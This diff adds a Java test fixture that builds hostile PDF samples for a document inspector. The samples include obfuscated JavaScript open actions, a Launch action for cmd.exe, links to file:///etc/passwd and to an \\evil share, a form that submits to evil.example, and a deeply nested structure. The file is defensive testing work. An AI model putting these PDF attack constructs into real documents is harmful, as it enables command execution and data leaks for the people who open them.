@@ -1,0 +1,190 @@
+package city.pishkhan.archive.internal.inspection;
+
+import static city.pishkhan.archive.internal.SampleFiles.ascii;
+import static city.pishkhan.archive.internal.SampleFiles.deflate;
+
+import city.pishkhan.archive.internal.SampleFiles;
+import java.util.LinkedHashMap;
+import java.util.Map;
+
+/** PDFs that run something, hold something or fetch something; each hides it in another way, or says it openly. */
+final class HostilePdfs {
+    private static final String CATALOG = "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>";
+    private static final String SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>";
+    private static final String TYPED = "/Type/ObjStm/N %N/First %F";
+
+    private HostilePdfs() {}
+
+    private static PdfFile packed(String dictionary, PdfFile.Packing packing) {
+        return packed(dictionary, packing, SCRIPT);
+    }
+
+    private static PdfFile packed(String dictionary, PdfFile.Packing packing, String action) {
+        return new PdfFile()
+                .object(2, PdfFile.PAGES)
+                .object(3, PdfFile.PAGE)
+                .packed(9, dictionary, packing, Map.of(1, CATALOG, 4, action));
+    }
+
+    private static byte[] annotation(String annotation) {
+        return PdfFile.page("/Annots[4 0 R]").object(4, annotation).table();
+    }
+
+    private static byte[] link(String action) {
+        return PdfFile.linked(action);
+    }
+
+    private static byte[] open(String action) {
+        return PdfFile.of("/OpenAction" + action).table();
+    }
+
+    static Map<String, byte[]> all() {
+        Map<String, byte[]> all = new LinkedHashMap<>();
+        // the shapes that once were taken
+        all.put(
+                "names with escapes around packed objects",
+                packed("/Type/ObjStm/N %N/First %F/F#69lter/Fl#61teDecode", SampleFiles::deflate)
+                        .references(false));
+        all.put(
+                "predictor 12",
+                packed(
+                                TYPED + "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>",
+                                plain -> deflate(PdfFile.up(plain, 8)))
+                        .references(true));
+        all.put(
+                "a string behind the filter",
+                packed("/Filter/FlateDecode/Note( obj )" + TYPED, SampleFiles::deflate)
+                        .references(false));
+        all.put(
+                "a string that ends the dictionary",
+                packed("/Type/ObjStm/Note( stream\n)/N %N/First %F/Filter/FlateDecode", SampleFiles::deflate)
+                        .references(false));
+        all.put(
+                "a filter far before the type",
+                packed("/Filter/FlateDecode/Note(" + "x".repeat(5_000) + ")" + TYPED, SampleFiles::deflate)
+                        .references(false));
+        all.put(
+                "ASCII85",
+                packed(TYPED + "/F#69lter/ASCII85Decode", PdfFile::ascii85).references(false));
+        all.put(
+                "ASCII85 of packed objects",
+                packed(TYPED + "/F#69lter[/ASCII85Decode/Fl#61teDecode]", plain -> PdfFile.ascii85(deflate(plain)))
+                        .references(false));
+        all.put("a rendition with a script", open("<</S/Rendition/OP 0/JS(app.alert(1))>>"));
+        all.put(
+                "XFA",
+                PdfFile.of("/AcroForm<</Fields[]/XFA 4 0 R>>").stream(
+                                4,
+                                "/Filter/FlateDecode",
+                                deflate(ascii("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")))
+                        .table());
+        // further ones
+        all.put(
+                "hexadecimal digits",
+                packed(TYPED + "/Filter/ASCIIHexDecode", PdfFile::hex).references(false));
+        all.put(
+                "an object stream without a type",
+                packed("/N %N/First %F/Filter/FlateDecode", SampleFiles::deflate)
+                        .references(false));
+        all.put(
+                "an object stream of another type",
+                packed("/Type/XObject/N %N/First %F/Filter/FlateDecode", SampleFiles::deflate)
+                        .references(false));
+        all.put(
+                "a filter by reference",
+                packed(TYPED + "/Filter 8 0 R", SampleFiles::deflate)
+                        .object(8, "/FlateDecode")
+                        .references(false));
+        all.put(
+                "a packed form with XFA",
+                packed(TYPED + "/Filter/FlateDecode", SampleFiles::deflate, "<</Fields[]/XFA(x)>>")
+                        .references(true));
+        all.put("a script by its escaped name", open("<</S/J#61vaScript/J#53(app.alert(1))>>"));
+        all.put(
+                "XFA by its escaped name",
+                PdfFile.of("/AcroForm<</Fields[]/X#46A(x)>>").table());
+        all.put("a comment between slash and value", open("<</S%x\n/JavaScript%y\n/JS(app.alert(1))>>"));
+        all.put(
+                "a script when the page is shown",
+                PdfFile.page("/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>").table());
+        all.put("a script after a link", link("<</S/GoTo/D[3 0 R/Fit]/Next<</S/Hide/T(x)>>>>"));
+        all.put("a list of actions after a link", link("<</S/GoTo/D[3 0 R/Fit]/Next[<</S/SetOCGState/State[/ON]>>]>>"));
+        all.put("a command", link("<</S/Launch/F(cmd.exe)>>"));
+        all.put("a link to a script", link("<</S/URI/URI(javascript:alert(1))>>"));
+        all.put("a link to the disk", link("<</S/URI/URI(file:///etc/passwd)>>"));
+        all.put("a link to another machine's folder", link("<</S/URI/URI(\\\\\\\\evil\\\\share)>>"));
+        all.put("another file outside", link("<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"));
+        all.put("another file inside", link("<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>"));
+        all.put("an action that no standard has", link("<</S/Execute/What(x)>>"));
+        all.put("printing when it is opened", open("<</S/Named/N/Print>>"));
+        all.put("a form that imports", link("<</S/ImportData/F(data.fdf)>>"));
+        all.put("a form that sends itself", link("<</S/SubmitForm/F(http://evil.example/)>>"));
+        all.put("sound", annotation("<</Type/Annot/Subtype/Sound/Rect[0 0 9 9]/Sound 5 0 R>>"));
+        all.put("a film", annotation("<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(x.avi)>>>>"));
+        all.put("a 3D model", annotation("<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 5 0 R>>"));
+        all.put("a screen", annotation("<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>"));
+        all.put("an annotation without a kind", annotation("<</Rect[0 0 9 9]>>"));
+        all.put("an attached file", annotation("<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x)/EF<</F 5 0 R>>>>>>"));
+        all.put(
+                "a file that belongs to the document",
+                PdfFile.of("/AF[<</Type/Filespec/F(x.xml)>>]").table());
+        all.put("files in a folder", PdfFile.of("/Collection<</View/T>>").table());
+        all.put(
+                "a reader that has to run scripts",
+                PdfFile.of("/Requirements[<</S/EnableJavaScripts>>]").table());
+        all.put(
+                "names of an unknown kind",
+                PdfFile.of("/Names<</Renditions<</Names[]>>>>").table());
+        all.put("a part of an unknown kind", PdfFile.of("/Execute<</What(x)>>").table());
+        all.put(
+                "a stream in another file",
+                PdfFile.page("/Contents 4 0 R").stream(
+                                4, "/F(\\\\\\\\evil\\\\share\\\\x)/FFilter/FlateDecode", new byte[0])
+                        .table());
+        all.put(
+                "a picture in another file",
+                PdfFile.page("/Resources<</XObject<</X 4 0 R>>>>").stream(
+                                4, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F(x)>>>>", new byte[0])
+                        .table());
+        all.put(
+                "a page of another document",
+                PdfFile.page("/Resources<</XObject<</X 4 0 R>>>>").stream(
+                                4, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(x.pdf)/Page 0>>", new byte[0])
+                        .table());
+        all.put(
+                "a PostScript program",
+                PdfFile.page("/Resources<</XObject<</X 4 0 R>>>>").stream(
+                                4, "/Type/XObject/Subtype/PS", ascii("(x) run"))
+                        .table());
+        all.put(
+                "an unknown filter",
+                PdfFile.page("/Contents 4 0 R").stream(4, "/Filter/Crypt", new byte[0])
+                        .table());
+        all.put("encryption", PdfFile.of("").table("/Encrypt<</Filter/Standard/V 1/R 2/O()/U()/P 0>>"));
+        all.put(
+                "an older revision with a form",
+                PdfFile.of("")
+                        .object(4, "<</Fields[]/XFA(x)>>")
+                        .object(4, "<</Fields[]>>")
+                        .table());
+        all.put(
+                "more pages than are named",
+                new PdfFile()
+                        .object(1, "<</Type/Catalog/Pages 2 0 R>>")
+                        .object(2, "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 1>>")
+                        .object(3, PdfFile.PAGE)
+                        .object(4, PdfFile.PAGE.replace("/Type/Page", ""))
+                        .table());
+        all.put(
+                "pages in a circle",
+                new PdfFile()
+                        .object(1, "<</Type/Catalog/Pages 2 0 R>>")
+                        .object(2, "<</Type/Pages/Kids[3 0 R 2 0 R]/Count 1>>")
+                        .object(3, PdfFile.PAGE)
+                        .table());
+        all.put(
+                "an endless nest",
+                PdfFile.of("/PieceInfo 4 0 R").object(4, "[".repeat(100_000)).table());
+        return all;
+    }
+}
